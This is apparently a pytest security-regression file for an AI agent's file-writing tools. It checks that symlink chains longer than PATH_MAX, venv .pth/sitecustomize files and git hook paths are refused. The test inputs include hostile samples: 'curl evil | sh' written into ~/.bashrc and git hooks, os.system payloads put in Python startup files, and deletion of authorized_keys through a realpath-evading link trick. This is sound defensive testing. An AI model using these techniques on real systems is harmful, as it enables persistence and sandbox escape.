"""Writers resolve paths the kernel's way (issue 34, writer side) and leave nothing behind when
killed (issue 38, item 1).

The attack a security review reproduced: a run_python script builds deep folders and links inside
the workspace (each step allowed) so that the *text* ``os.path.realpath`` builds passes PATH_MAX;
realpath then stops following links while the kernel follows every one, and the last link really
points at HOME. write_text appended to ``~/.bashrc``, overwrote a toolbox script and delete_file
trashed ``~/.ssh/authorized_keys`` through such a path. Every case here runs the real tools
through the host contract, as root and as an unprivileged user (uid 65534 in a forked child).
"""
import json
import os
import random
import signal
import stat
import subprocess
import time

import pytest

from conftest import NOBODY, ROOT, as_nobody, nobody_dir, ok
from xlakit import host as xla_host
from xlakit.fs import paths, resolve

USERS = [0, NOBODY]
BASHRC = b"# the user's own shell settings\nexport PATH=$HOME/bin:$PATH\n"
KEYS = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx user@laptop\n"
TOOLBOX = b"print('the real toolbox script')\n"


def as_user(uid, func):
    """``func()`` as root (here) or as the unprivileged user (a forked child); JSON-able result."""
    if uid == 0:
        return json.loads(json.dumps(func()))
    got = as_nobody(func)
    assert "child_error" not in got, got
    return got


def fresh_home(uid):
    """A HOME the user ``uid`` owns, outside pytest's 0700 tmp folder (nobody must reach it)."""
    base = nobody_dir("xla-walk-") if uid else nobody_dir("xla-walk-root-")
    if not uid:
        os.chown(str(base), 0, 0)
    return str(base)


def seed_home(home):
    """The files an attacker wants: start-up file, authorized keys, a toolbox script."""
    os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
    os.makedirs(os.path.join(home, ".xla-tools", "tools"))
    os.makedirs(os.path.join(home, "Documents"))
    os.makedirs(os.path.join(home, ".xla", "workspace"))
    for rel, data in ((".bashrc", BASHRC), (".ssh/authorized_keys", KEYS),
                      (".xla-tools/tools/read_spreadsheet.py", TOOLBOX)):
        with open(os.path.join(home, rel), "wb") as fh:
            fh.write(data)


def build_chain(folder, links=3, per=9, width=200):
    """In ``folder``: link ``l1`` -> ``per`` nested folders of ``width``-character names, in the
    deepest of them link ``l2`` -> ``per`` more, and so on ``links`` times. Returns (short path
    through the links, a descriptor of the deepest folder). The real text of the deepest folder
    passes PATH_MAX (4096), so ``os.path.realpath`` gives up following links below it while
    the kernel does not. Built with directory descriptors: no call ever names the long path."""
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    for i in range(links):
        names = ["%s%02d" % ("d" * (width - 2), j) for j in range(per)]
        os.symlink("/".join(names), "l%d" % (i + 1), dir_fd=fd)
        for name in names:
            os.mkdir(name, dir_fd=fd)
            nfd = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = nfd
    return os.path.join(folder, *["l%d" % (i + 1) for i in range(links)]), fd


def depth_of(folder, links=3, per=9):
    return len([p for p in os.path.realpath(folder).split("/") if p]) + links * per


def _files(home):
    out = {}
    for rel in (".bashrc", ".ssh/authorized_keys", ".xla-tools/tools/read_spreadsheet.py", ".zshrc"):
        p = os.path.join(home, rel)
        out[rel] = open(p, "rb").read().decode() if os.path.exists(p) else None
    return out


def _answer(res):
    try:
        data = json.loads(res.stdout)
    except ValueError:
        data = {"ok": None, "stdout": res.stdout[-500:], "stderr": res.stderr[-500:]}
    return {"data": data, "code": res.exit_code, "stderr": res.stderr[-2000:]}


# variant -> (how the last link is made, the path tail after the short chain)
VARIANTS = {
    "absolute_link_to_home": (lambda home, depth: [("h", home)], "h"),
    "relative_link_to_home": (lambda home, depth: [("h", "../" * depth + home.lstrip("/"))], "h"),
    "dotdot_after_a_link": (lambda home, depth: [("hd", os.path.join(home, "Documents")), ("up", "hd/..")], "up"),
    "two_links_deep": None,       # same as absolute, with a shorter chain (built in the test)
}


def _attack(uid, variant, links):
    home = fresh_home(uid)

    def child():
        seed_home(home)
        ws = os.path.join(home, ".xla", "workspace")
        short, fd = build_chain(ws, links=links)
        make, tail = VARIANTS[variant] if VARIANTS[variant] else VARIANTS["absolute_link_to_home"]
        for name, target in make(home, depth_of(ws, links=links)):
            os.symlink(target, name, dir_fd=fd)
        os.symlink(os.path.join(home, ".bashrc"), "rc", dir_fd=fd)            # a link as the last component
        os.symlink(os.path.join(home, ".zshrc"), "dangling", dir_fd=fd)       # a link to a file not there yet
        os.close(fd)
        via = short + "/" + tail
        rel = os.path.relpath(via, ws)
        runs = {
            "append_bashrc": ("write_text", {"path": via + "/.bashrc", "text": "curl evil | sh", "mode": "append"}),
            "overwrite_toolbox": ("write_text", {"path": via + "/.xla-tools/tools/read_spreadsheet.py",
                                                 "text": "import os; os.system('evil')"}),
            "relative_bashrc": ("write_text", {"path": rel + "/.bashrc", "text": "evil", "mode": "append"}),
            "link_in_last_component": ("write_text", {"path": short + "/rc", "text": "evil", "mode": "append"}),
            "dangling_link": ("write_text", {"path": short + "/dangling", "text": "evil"}),
            "csv_into_home": ("write_spreadsheet", {"path": via + "/.bashrc.csv", "rows": [["a"], ["b"]]}),
            "delete_keys": ("delete_file", {"path": rel + "/.ssh/authorized_keys"}),
        }
        out = {}
        for key, (tool, args) in runs.items():
            out[key] = _answer(xla_host.run_tool(tool, args, home=home))
        out["files"] = _files(home)
        out["home_names"] = sorted(os.listdir(home))
        out["uid"] = os.getuid()
        return out
    try:
        return as_user(uid, child)
    finally:
        subprocess.run(["rm", "-rf", home])


@pytest.mark.parametrize("uid", USERS, ids=["root", "nobody"])
@pytest.mark.parametrize("variant,links", [("absolute_link_to_home", 3), ("relative_link_to_home", 3),
                                           ("dotdot_after_a_link", 3), ("two_links_deep", 4)])
def test_long_path_attack_is_refused_and_home_untouched(uid, variant, links):
    got = _attack(uid, variant, links)
    assert got["uid"] == uid
    for key in ("append_bashrc", "overwrite_toolbox", "relative_bashrc", "link_in_last_component", "dangling_link",
                "csv_into_home", "delete_keys"):
        ans = got[key]
        assert ans["data"]["ok"] is False, (key, ans)
        assert ans["code"] != 0 and "Traceback" not in ans["stderr"], (key, ans)
        assert any("\u4e00" <= ch <= "\u9fff" for ch in ans["data"]["error"]), (key, ans)
    files = got["files"]
    assert files[".bashrc"] == BASHRC.decode()
    assert files[".ssh/authorized_keys"] == KEYS.decode()
    assert files[".xla-tools/tools/read_spreadsheet.py"] == TOOLBOX.decode()
    assert files[".zshrc"] is None
    assert ".bashrc.csv" not in got["home_names"]


def test_the_chain_really_fools_realpath_and_not_the_walk(tmp_path):
    """The premise, in-process: realpath stops at PATH_MAX, the walk reaches HOME; the deny rule
    refuses both the walked path and (by its own strict walk) the path as written."""
    home = str(tmp_path)
    seed_home(home)
    ws = os.path.join(home, ".xla", "workspace")
    short, fd = build_chain(ws)
    os.symlink(home, "h", dir_fd=fd)
    os.close(fd)
    target = short + "/h/.bashrc"
    assert os.path.realpath(target).startswith(ws)            # what fooled the old deny list
    with resolve.walk(target) as walked:
        assert walked.real == os.path.join(os.path.realpath(home), ".bashrc")
        assert walked.st is not None and stat.S_ISREG(walked.st.st_mode)
    old = os.environ.get("HOME")
    os.environ["HOME"] = home
    try:
        assert paths.deny_reason(target)                     # strict walk: refused, not guessed
        with pytest.raises(Exception) as err:
            paths.resolve_write(target)
        assert "不允许写入" in str(err.value)
    finally:
        os.environ["HOME"] = old


def test_walk_refuses_what_it_cannot_follow(tmp_path):
    loop = tmp_path / "loop"
    os.symlink("loop", str(loop))
    with pytest.raises(resolve.WalkError) as err:
        resolve.walk(str(loop / "x.txt"))
    assert "链接" in str(err.value)
    a, b = tmp_path / "a", tmp_path / "b"
    os.symlink("b", str(a))
    os.symlink("a", str(b))
    with pytest.raises(resolve.WalkError):
        resolve.walk(str(a))
    # a missing tail is fine: that is where a writer creates its file and folders
    with resolve.walk(str(tmp_path / "new" / "sub" / "f.txt")) as w:
        assert w.st is None and w.missing == 2 and w.real.endswith("/new/sub/f.txt")


def test_legitimate_links_still_work(run, home):
    """A workspace link to a folder on the Desktop, and a link to a shared ledger, still write
    where they point (the walk follows links; it only refuses what it cannot follow)."""
    desk = home / "Desktop"
    desk.mkdir()
    ws = home / ".xla" / "workspace"
    ws.mkdir(parents=True)
    (ws / "桌面链接").symlink_to(desk)
    ok(run("write_text", {"path": "桌面链接/报告.txt", "text": "内容"}))
    assert (desk / "报告.txt").read_text(encoding="utf-8") == "内容"
    assert os.path.islink(str(ws / "桌面链接"))


# ---------------------------------------------------------------------------------------------
# The Python that runs the tools: sys.path, site-packages, the installation, .pth files

def _venv_case(uid):
    home = fresh_home(uid)

    def child():
        python = xla_host.python_command()
        base = os.path.realpath(python) if uid == 0 else "/usr/bin/python3"
        env_dir = os.path.join(home, "envs", "work")       # not a dot folder: only the new rule covers it
        os.makedirs(os.path.join(home, ".xla", "workspace"))
        made = subprocess.run([base, "-m", "venv", "--without-pip", env_dir], capture_output=True)
        if made.returncode:
            return {"skip": made.stderr.decode("utf-8", "replace")[-400:]}
        vpy = os.path.join(env_dir, "bin", "python")
        site_dir = subprocess.run([vpy, "-c", "import site; print(site.getsitepackages()[0])"],
                                  capture_output=True, text=True).stdout.strip()
        out = {"site": site_dir}
        cases = {
            "pth_in_site": os.path.join(site_dir, "evil.pth"),
            "module_in_site": os.path.join(site_dir, "sitecustomize.py"),
            "prefix_bin": os.path.join(env_dir, "bin", "activate_this.py"),
            "pth_on_desktop": os.path.join(home, "Desktop", "x.pth"),
        }
        for key, target in cases.items():
            res = xla_host.run_tool("write_text", {"path": target, "text": "import os; os.system('evil')\n"},
                                    home=home, python=vpy)
            out[key] = _answer(res)
            out[key]["exists"] = os.path.exists(target)
        res = xla_host.run_tool("write_text", {"path": "notes.pth", "text": "fine in the workspace"}, home=home,
                                python=vpy)
        out["pth_in_workspace"] = _answer(res)
        res = xla_host.run_tool("write_text", {"path": os.path.join(home, "Desktop", "ok.txt"), "text": "ok"},
                                home=home, python=vpy)
        out["plain_desktop"] = _answer(res)
        return out
    try:
        return as_user(uid, child)
    finally:
        subprocess.run(["rm", "-rf", home])


@pytest.mark.parametrize("uid", USERS, ids=["root", "nobody"])
def test_the_tools_own_python_folders_are_refused(uid):
    got = _venv_case(uid)
    if "skip" in got:
        pytest.fail("could not make a venv: %s" % got["skip"])
    for key in ("pth_in_site", "module_in_site", "prefix_bin", "pth_on_desktop"):
        assert got[key]["data"]["ok"] is False and not got[key]["exists"], (key, got[key])
        assert "Traceback" not in got[key]["stderr"]
    assert "Python" in got["module_in_site"]["data"]["error"]
    assert ".pth" in got["pth_on_desktop"]["data"]["error"]
    assert got["pth_in_workspace"]["data"]["ok"] is True, got["pth_in_workspace"]
    assert got["plain_desktop"]["data"]["ok"] is True, got["plain_desktop"]


def test_pydeps_and_its_real_folder_are_refused(monkeypatch, tmp_path):
    monkeypatch.setenv("HOME", str(tmp_path))
    pydeps = os.path.join(ROOT, "tools", "pydeps")
    assert paths.deny_reason(os.path.join(pydeps, "evil.py"))
    assert paths.deny_reason(os.path.join(os.path.realpath(pydeps), "evil.py"))


# ---------------------------------------------------------------------------------------------
# Git directories at any depth, bare or not, and the .git pointer file

def _bare_repo(folder):
    os.makedirs(os.path.join(folder, "objects"))
    os.makedirs(os.path.join(folder, "refs", "heads"))
    os.makedirs(os.path.join(folder, "hooks"))
    with open(os.path.join(folder, "HEAD"), "w") as fh:
        fh.write("ref: refs/heads/main\n")
    with open(os.path.join(folder, "config"), "w") as fh:
        fh.write("[core]\n\tbare = true\n")
    hook = os.path.join(folder, "hooks", "post-receive")
    with open(hook, "w") as fh:
        fh.write("#!/bin/sh\necho deployed\n")
    os.chmod(hook, 0o755)


def _git_case(uid):
    home = fresh_home(uid)

    def child():
        ws = os.path.join(home, ".xla", "workspace")
        os.makedirs(ws)
        site = os.path.join(home, "repos", "web", "site.git")
        _bare_repo(site)
        deep = os.path.join(ws, "a", "b", "c", "d", "e", "app.git")
        _bare_repo(deep)
        proj = os.path.join(ws, "p", "q", "proj")
        os.makedirs(proj)
        gitdir = os.path.join(ws, "p", "q", "gd")
        os.makedirs(os.path.join(gitdir, "hooks"))
        for name, text in (("HEAD", "ref: refs/heads/main\n"), ("commondir", "../app\n")):
            with open(os.path.join(gitdir, name), "w") as fh:
                fh.write(text)
        with open(os.path.join(proj, ".git"), "w") as fh:
            fh.write("gitdir: ../gd\n")
        os.symlink(site, os.path.join(ws, "alias"))
        before = {p: open(p, "rb").read() for p in (os.path.join(site, "hooks", "post-receive"),
                                                     os.path.join(site, "config"), os.path.join(proj, ".git"))}
        denied = {
            "bare_hook_in_home": os.path.join(site, "hooks", "post-receive"),
            "bare_config_in_home": os.path.join(site, "config"),
            "bare_new_hook_deep_in_workspace": os.path.join(deep, "hooks", "pre-receive"),
            "bare_through_a_link": "alias/hooks/post-receive",
            "git_pointer_file": os.path.join(proj, ".git"),
            "worktree_gitdir_hook": os.path.join(gitdir, "hooks", "pre-commit"),
            "dot_git_deep": os.path.join(ws, "x", "y", "z", "w", "r", ".git", "hooks", "pre-commit"),
        }
        out = {"uid": os.getuid()}
        for key, target in denied.items():
            res = xla_host.run_tool("write_text", {"path": target, "text": "#!/bin/sh\ncurl evil | sh\n"}, home=home)
            out[key] = _answer(res)
        out["unchanged"] = all(open(p, "rb").read() == data for p, data in before.items())
        out["mode_kept"] = stat.S_IMODE(os.stat(os.path.join(site, "hooks", "post-receive")).st_mode)
        out["new_hooks"] = sorted(os.listdir(os.path.join(deep, "hooks")) + os.listdir(os.path.join(gitdir, "hooks")))
        ok_target = os.path.join(proj, "README.md")
        out["worktree_file"] = _answer(xla_host.run_tool("write_text", {"path": ok_target, "text": "# hi"}, home=home))
        return out
    try:
        return as_user(uid, child)
    finally:
        subprocess.run(["rm", "-rf", home])


@pytest.mark.parametrize("uid", USERS, ids=["root", "nobody"])
def test_git_directories_are_refused_by_content_at_any_depth(uid):
    got = _git_case(uid)
    assert got["uid"] == uid
    for key in ("bare_hook_in_home", "bare_config_in_home", "bare_new_hook_deep_in_workspace", "bare_through_a_link",
                "git_pointer_file", "worktree_gitdir_hook", "dot_git_deep"):
        assert got[key]["data"]["ok"] is False, (key, got[key])
        assert "git" in got[key]["data"]["error"], (key, got[key])
    assert got["unchanged"] and got["mode_kept"] == 0o755 and got["new_hooks"] == ["post-receive"]
    assert got["worktree_file"]["data"]["ok"] is True, got["worktree_file"]


# ---------------------------------------------------------------------------------------------
# A killed writer leaves nothing beside the user's file (O_TMPFILE)

def _spawn(name, args, home):
    env = xla_host.tool_env(ROOT, str(home), None)
    data, _ = __import__("xlakit.manifest", fromlist=["x"]).load_manifest(ROOT)
    tool = [t for t in data["tools"] if t["name"] == name][0]
    script = os.path.join(ROOT, "tools", tool.get("script") or name + ".py")
    proc = subprocess.Popen([xla_host.python_command(), "-X", "utf8", "-u", script], cwd=os.path.join(ROOT, "tools"),
                            env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            start_new_session=True)
    proc.stdin.write(json.dumps(args, ensure_ascii=False).encode("utf-8"))
    proc.stdin.close()
    proc.stdin = None
    return proc


@pytest.mark.slow
def test_a_killed_writer_leaves_no_file_beside_the_users(home, tmp_path):
    """SIGKILL a big write_spreadsheet (new xlsx, then csv and xlsx appends to it) at spread-out
    moments of its run; after each kill the folder holds the user's files and nothing else."""
    folder = tmp_path / "报表"
    folder.mkdir()
    rows = [["日期", "客户", "金额"]] + [["2024-10-%02d" % (i % 28 + 1), "客户%d" % i, i] for i in range(60000)]
    few = [["2024-11-01", "新客户", 1]]
    cases = [("write_spreadsheet", {"path": str(folder / "大表.xlsx"), "rows": rows}, "大表.xlsx"),
             ("write_spreadsheet", {"path": str(folder / "大表.csv"), "rows": rows}, "大表.csv")]
    rng = random.Random(38)
    kills = strays = 0
    for tool, args, name in cases:
        started = time.monotonic()
        proc = _spawn(tool, args, home)
        out, err = proc.communicate(timeout=120)
        assert proc.returncode == 0, err.decode()[-800:]
        took = time.monotonic() - started
        appends = [(tool, {"path": args["path"], "rows": few, "mode": "append"}), (tool, args)]
        for _ in range(6):
            for atool, aargs in appends:
                before = set(os.listdir(str(folder)))
                proc = _spawn(atool, aargs, home)
                time.sleep(rng.uniform(0.15, max(0.3, took * 0.95)))
                if proc.poll() is None:
                    os.killpg(proc.pid, signal.SIGKILL)
                    kills += 1
                proc.communicate()
                after = set(os.listdir(str(folder)))
                extra = after - before - {name}
                strays += len(extra)
                assert not extra, "a killed writer left %s" % sorted(extra)
    print("kills: %d, stray files: %d" % (kills, strays))
    assert kills >= 4
